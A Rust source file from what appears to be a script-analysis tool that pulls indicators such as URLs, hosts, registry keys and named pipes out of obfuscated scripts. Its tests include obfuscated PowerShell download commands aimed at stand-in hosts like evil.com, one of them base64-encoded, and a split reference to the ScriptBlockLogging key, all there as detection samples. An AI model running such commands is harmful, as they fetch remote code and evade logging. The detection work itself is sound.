//! [`TextIndicators`]: the indicators of a text together with its views.

use super::kind::{IndicatorKind, LeftOut};
use super::scan::{Indicator, scan};
use crate::ordered::{OrderedMap, OrderedSet};
use crate::script::{self, View};

/// The indicators of a text and of its views.
#[derive(Debug, Default)]
pub(crate) struct TextIndicators {
    /// Each indicator with the view in which it was found first; `None` for the text itself.
    pub(crate) found: OrderedMap<Indicator, Option<String>>,
    /// Some were left out past [`TEXT_INDICATORS`](crate::limits::TEXT_INDICATORS).
    pub(crate) is_limited: bool,
}

impl TextIndicators {
    /// Reads a text, and its views if `with_views` says so.
    pub(crate) fn new(text: &str, with_views: bool) -> Self {
        let found = scan(text);
        let mut views = Vec::new();
        if with_views {
            views = script::views(text);
            if views.is_empty() && has_unjoined(text, &found.0) {
                views = script::views_of_any(text).0;
            }
        }
        Self::of_views(text, found, &views)
    }

    /// Reads these views of a text in which `found` was found.
    ///
    /// A piece of an indicator that a view joins, such as `http://ev` of `'http://ev'+'il.net'`, is left out: it is no
    /// value of the plain view, and part of one.
    fn of_views(text: &str, found: (OrderedSet<Indicator>, bool), views: &[View]) -> Self {
        let mut all = Self { is_limited: found.1, ..Self::default() };
        // The plain view of the text and of each view. A plain view has its own pieces beside what they are joined to.
        let mut plain = vec![None; views.len() + 1];
        let mut scans = vec![(None, found.0)];
        for (view, index) in views.iter().zip(1..) {
            if !view.is_layer() {
                for of in [view.origin.map_or(0, |outer| outer + 1), index] {
                    if let Some(slot) = plain.get_mut(of) {
                        *slot = Some(index);
                    }
                }
            }
            let (found, is_limited) = scan(&view.text);
            all.is_limited |= is_limited;
            scans.push((Some(&*view.name), found));
        }
        let length = text.len() + views.iter().map(|view| view.text.len()).sum::<usize>();
        let mut budget = length.saturating_mul(COMPARED_FACTOR);
        for (at, (name, found)) in scans.iter().enumerate() {
            let plain = plain.get(at).copied().flatten().and_then(|plain| scans.get(plain));
            let joined = plain.map(|(_, plain)| Joined::new(plain));
            for indicator in found.iter() {
                let is_piece =
                    joined.as_ref().is_some_and(|joined| joined.has_around(indicator, &mut budget));
                if !is_piece {
                    all.found.entry(indicator.clone()).or_insert(name.map(str::to_owned));
                }
            }
        }
        all
    }
}

/// Returns the views of a script for readers: also of one without a sign of obfuscation whose indicators are joined.
pub(crate) fn reader_views(text: &str) -> Vec<View> {
    let views = script::views(text);
    if views.is_empty() && has_unjoined(text, &scan(text).0) {
        return script::views_of_any(text).0;
    }
    views
}

/// Whether constants may complete an address of a text in which these indicators were found.
fn has_unjoined(text: &str, found: &OrderedSet<Indicator>) -> bool {
    // `'http://' + $server`
    ["://'", "://\""].iter().any(|cut| text.contains(cut))
        || found.iter().any(is_unjoined)
        || found.iter().take(CONTINUED).any(|indicator| is_continued(text, indicator))
}

/// Indicators whose continuation is looked for.
const CONTINUED: usize = 64;

/// Whether a value is a constant to which another one is joined: `'…\ScriptB' + 'lockLogging'`.
fn is_continued(text: &str, indicator: &Indicator) -> bool {
    let last = indicator.value.rsplit(['\\', '/']).next().filter(|last| !last.is_empty());
    let joints = ["'+", "' +", "\"+", "\" +"];
    last.is_some_and(|last| joints.iter().any(|joint| text.contains(&format!("{last}{joint}"))))
}

/// Whether an address is a piece or has a variable in it, so that constants may complete it: `'http://ex'` of
/// `$a = 'http://ex'; $b = 'ample.org/x'; iwr ($a + $b)`, `"http://$server/x"`.
fn is_unjoined(indicator: &Indicator) -> bool {
    match indicator.kind {
        IndicatorKind::Url if indicator.left_out.is_none() => is_short(&indicator.value),
        IndicatorKind::Url | IndicatorKind::Host | IndicatorKind::NamedPipe => {
            indicator.left_out == Some(LeftOut::Incomplete)
        }
        _ => false,
    }
}

/// Whether a URL or host has neither a dot nor a path.
fn is_short(value: &str) -> bool {
    let rest = value.trim_start_matches(char::is_alphanumeric).trim_start_matches("://");
    !rest.contains(['.', '/'])
}

/// Bytes that are compared for each byte of a text and its views. Past this bound pieces are not recognised as such.
const COMPARED_FACTOR: usize = 64;

/// The values of a plain view.
struct Joined<'a> {
    found: &'a OrderedSet<Indicator>,
    values: String,
}

impl<'a> Joined<'a> {
    fn new(found: &'a OrderedSet<Indicator>) -> Self {
        let mut values = String::new();
        for indicator in found.iter() {
            values.push_str(&indicator.value);
            values.push('\n');
        }
        Self { found, values }
    }

    /// Whether an indicator is none of the view's, but part of one. A host without a dot is also a part if a longer name
    /// begins with it: the text that is joined may be in the view too, as `$a = 'http://ev'` is.
    fn has_around(&self, indicator: &Indicator, budget: &mut usize) -> bool {
        if self.values.len() > *budget {
            return false;
        }
        let value = &indicator.value;
        let is_known = self.found.contains(indicator);
        let is_short =
            matches!(indicator.kind, IndicatorKind::Url | IndicatorKind::Host) && is_short(value);
        if is_known && !is_short {
            return false;
        }
        *budget -= self.values.len();
        let goes_on = |(at, _): (usize, &str)| {
            let after = self.values.as_bytes().get(at + value.len());
            after.is_some_and(|byte| byte.is_ascii_alphanumeric() || *byte == b'.')
        };
        match is_known {
            true => self.values.match_indices(value.as_str()).any(goes_on),
            false => self.values.contains(value),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(text: &str) -> Vec<(String, String)> {
        let found = TextIndicators::new(text, true).found;
        let row = |(own, view): (&Indicator, &Option<String>)| {
            (own.value.clone(), view.clone().unwrap_or_else(|| "original".to_owned()))
        };
        found.iter().map(row).collect()
    }

    fn rows(rows: &[(&str, &str)]) -> Vec<(String, String)> {
        rows.iter().map(|(value, view)| ((*value).to_owned(), (*view).to_owned())).collect()
    }

    #[test]
    fn pieces_that_a_view_joins_are_none() {
        assert_eq!(
            shown("iwr ('http://ev'+'il.com/a.ps1')"),
            rows(&[("http://evil.com/a.ps1", "plain"), ("evil.com", "plain")])
        );
        assert_eq!(
            shown("$a = 'http://ev'; $b = 'il.'+'com/x'; iwr ($a + $b) # http://other.com/"),
            rows(&[
                ("http://evil.com/x", "plain"),
                ("http://other.com/", "original"),
                ("evil.com", "plain"),
                ("il.com", "plain"),
                ("other.com", "original"),
            ])
        );
    }

    #[test]
    fn values_are_joined_through_variables() {
        for text in [
            "$a='http://ex'; $b='ample-cdn.org/x'; iwr ($a+$b)",
            "$a='http://ex'; $b='ample-cdn.org/x'; iwr \"$a$b\"",
            "$a='http://ex'; $a+='ample-cdn.org/x'; iwr $a",
            "$h='ample-cdn.org'; iwr ('http://ex{0}/x' -f $h)",
            "$h='example-cdn.org'; iwr ('http://' + $h + '/x')",
            "$h='example-cdn.org'; iwr \"http://$h/x\"",
            "$p='ex','ample-cdn.org/x'; iwr ('http://' + ($p -join ''))",
        ] {
            let found = shown(text);
            let url = |(own, view): &(String, String)| {
                own == "http://example-cdn.org/x" && view == "plain"
            };
            let host = |(own, _): &(String, String)| own == "example-cdn.org";
            assert!(found.iter().any(url) && found.iter().any(host), "{text}: {found:?}");
        }
    }

    #[test]
    fn long_pieces_of_keys_are_joined() {
        let found = shown("gi ('HKLM:\\Software\\Policies\\PowerShell\\ScriptB' + 'lockLogging')");
        let key = "HKLM\\Software\\Policies\\PowerShell\\ScriptBlockLogging";
        assert_eq!(found, rows(&[(key, "plain")]));
    }

    #[test]
    fn pipes_are_named_by_variables() {
        let text = "$n = 'evil'; New-Object System.IO.Pipes.NamedPipeServerStream($n, 'InOut')";
        assert_eq!(
            shown(text),
            rows(&[("\\\\.\\pipe\\$n", "original"), ("\\\\.\\pipe\\evil", "plain")])
        );
    }

    #[test]
    fn values_of_layers_name_their_layer() {
        // iwr ('http://evil'+'.com/')
        let packed = "aQB3AHIAIAAoACcAaAB0AHQAcAA6AC8ALwBlAHYAaQBsACcAKwAnAC4AYwBvAG0ALwAnACkA";
        assert_eq!(
            shown(&format!("powershell -e {packed}; ping 10.9.8.7")),
            rows(&[
                ("http://evil.com/", "layer 1 plain"),
                ("evil.com", "layer 1 plain"),
                ("10.9.8.7", "original"),
            ])
        );
        assert_eq!(TextIndicators::new(&format!("powershell -e {packed}"), false).found.len(), 0);
    }
}
